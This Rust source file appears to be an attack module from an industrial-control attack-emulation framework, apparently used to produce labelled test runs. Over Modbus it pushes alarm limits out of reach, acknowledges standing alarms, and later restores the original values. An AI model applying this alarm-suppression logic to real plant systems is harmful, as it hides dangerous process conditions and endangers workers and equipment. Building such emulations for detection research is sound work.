//! Alarm settings: limits moved so far that no alarm trips any more, and standing alarms acknowledged.

use super::{Attack, Needs, technique};
use crate::plant::points::{Part, Point};
use crate::plant::{Role, Target};
use crate::repair::Before;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "alarm-settings",
    about: "moves alarm limits until nothing trips them and acknowledges what still stands",
    technique: technique("T0838"),
    acceptable: &["T0878", "T0836", "T0855", "T1692.001"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["stranger", "scada"],
    needs: Needs::Sockets,
    seconds: [700, 45, 5],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let mut before = Before::default();
    let outcome = silence(&mut stage, &mut before).await;
    before.restored(&mut stage, 240.0);
    outcome
}

async fn silence(stage: &mut Stage, before: &mut Before) -> Outcome {
    let intruder = if stage.is("scada") { stage.known(Role::Scada) } else { stage.stranger() };
    let most = stage.by(4, 8, 16);
    let limits = stage.some(most, |target| target.point.part == Part::Limit && target.point.writable());
    for target in limits {
        let mut master = intruder.reach(stage.at(&target));
        before.look(stage, &mut master, &target).await?;
        stage.pause(stage.by(6.0, 1.0, 0.05)).await;
        let value = out_of_reach(target.point);
        master.put(&target, value).await?;
        stage.wrote(&target, value);
        let beside = |other: &Target| (other.device, other.unit) == (target.device, target.unit);
        let acknowledge =
            stage.some(1, |other| beside(other) && other.point.name.contains("acknowledge")).pop();
        if let Some(acknowledge) = acknowledge.filter(|acknowledge| acknowledge.point.writable()) {
            stage.pause(stage.by(20.0, 0.5, 0.02)).await;
            before.look(stage, &mut master, &acknowledge).await?;
            master.put(&acknowledge, 1.0).await?;
            stage.wrote(&acknowledge, 1.0);
        }
        master.hang_up();
        stage.pause(stage.by(210.0, 5.0, 0.2)).await;
    }
    Ok(())
}

/// A value that the process never reaches: far below where the point guards against too little, far
/// above otherwise.
pub(super) fn out_of_reach(point: &Point) -> f64 {
    let span = (point.high - point.low).max(point.high.abs() / 4.0);
    if ["low", "under", "min", "dry"].iter().any(|word| point.name.contains(word)) {
        (point.low - span * 4.0).max(0.0)
    } else {
        point.high + span * 4.0
    }
}
